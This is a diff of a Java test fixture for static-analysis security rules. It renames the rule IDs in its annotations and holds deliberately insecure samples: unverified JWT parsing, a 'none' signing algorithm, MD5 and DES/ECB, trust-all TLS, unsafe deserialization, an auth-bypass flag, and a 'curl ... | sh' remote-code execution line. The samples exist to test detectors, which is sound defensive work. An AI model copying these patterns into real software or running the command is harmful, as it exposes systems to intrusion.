@@ -12,53 +12,53 @@ import java.security.cert.X509Certificate;
 
 public class Fixture {
     Claims gateway(String token, PublicKey key) {
-        // ruleid: jwt-unsecured-parse
+        // ruleid: java-jwt-unsecured-parse
         return Jwts.parserBuilder().setSigningKey(key).build().parseClaimsJwt(token).getBody();
     }
 
     Claims access(String token, PublicKey key) {
-        // ok: jwt-unsecured-parse
+        // ok: java-jwt-unsecured-parse
         return Jwts.parserBuilder().setSigningKey(key).build().parseClaimsJws(token).getBody();
     }
 
     String sign() {
-        // ruleid: jwt-none-algorithm
+        // ruleid: java-jwt-none-algorithm
         return JWT.create().withSubject("x").sign(Algorithm.none());
     }
 
     String role(String token) {
-        // ruleid: jwt-decode-without-verify
+        // ruleid: java-jwt-decode-without-verify
         return JWT.decode(token).getClaim("role").asString();
     }
 
     byte[] hashPassword(String pw) throws Exception {
-        // ruleid: weak-hash-security-context
+        // ruleid: java-weak-hash-security-context
         return MessageDigest.getInstance("MD5").digest(pw.getBytes());
     }
 
     byte[] checksum(byte[] file) throws Exception {
-        // ok: weak-hash-security-context
+        // ok: java-weak-hash-security-context
         return MessageDigest.getInstance("MD5").digest(file);
     }
 
     byte[] legacy(Key k, byte[] r) throws Exception {
-        // ruleid: broken-cipher, ecb-mode
+        // ruleid: java-broken-cipher, java-ecb-mode
         Cipher c = Cipher.getInstance("DES/ECB/PKCS5Padding");
-        // ruleid: ecb-mode
+        // ruleid: java-ecb-mode
         Cipher d = Cipher.getInstance("AES");
-        // ok: broken-cipher, ecb-mode
+        // ok: java-broken-cipher, java-ecb-mode
         Cipher g = Cipher.getInstance("AES/GCM/NoPadding");
         return c.doFinal(r);
     }
 
     static String smsCode() {
-        // ruleid: insecure-random-secret
+        // ruleid: java-insecure-random-secret
         Random rng = new Random();
         return String.valueOf(rng.nextInt(1000000));
     }
 
     static long jitter() {
-        // ok: insecure-random-secret
+        // ok: java-insecure-random-secret
         return new Random().nextInt(250);
     }
 
@@ -66,44 +66,44 @@ public class Fixture {
         TrustManager[] managers = new TrustManager[] {
             new X509TrustManager() {
                 public void checkClientTrusted(X509Certificate[] chain, String authType) {}
-                // ruleid: trust-all-certificates
+                // ruleid: java-trust-all-certificates
                 public void checkServerTrusted(X509Certificate[] chain, String authType) {}
                 public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
             }
         };
         SSLContext ctx = SSLContext.getInstance("TLS");
         ctx.init(null, managers, new SecureRandom());
-        // ruleid: hostname-verifier-accepts-all
+        // ruleid: java-hostname-verifier-accepts-all
         HttpsURLConnection.setDefaultHostnameVerifier((h, s) -> true);
         return ctx;
     }
 
     void install() throws IOException {
-        // ruleid: runtime-exec-network-shell
+        // ruleid: java-runtime-exec-network-shell
         Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl -s https://x.example/i.sh | sh"});
-        // ok: runtime-exec-network-shell
+        // ok: java-runtime-exec-network-shell
         Runtime.getRuntime().exec(new String[]{"git", "status"});
     }
 
     Object restore(byte[] raw) throws Exception {
-        // ruleid: object-input-stream-read
+        // ruleid: java-object-input-stream-read
         return new ObjectInputStream(new ByteArrayInputStream(raw)).readObject();
     }
 
     Object restore2(InputStream in) throws Exception {
         ObjectInputStream ois = new ObjectInputStream(in);
-        // ruleid: object-input-stream-read
+        // ruleid: java-object-input-stream-read
         return ois.readObject();
     }
 
     protected void doFilter(HttpServletRequest req, HttpServletResponse res, FilterChain chain)
             throws IOException, ServletException {
-        // ruleid: auth-skipped-on-flag
+        // ruleid: java-auth-skipped-on-flag
         if ("true".equalsIgnoreCase(System.getenv("SKIP_AUTH"))) {
             chain.doFilter(req, res);
             return;
         }
-        // ok: auth-skipped-on-flag
+        // ok: java-auth-skipped-on-flag
         if (req.getHeader("Authorization") == null) {
             res.sendError(401);
             return;
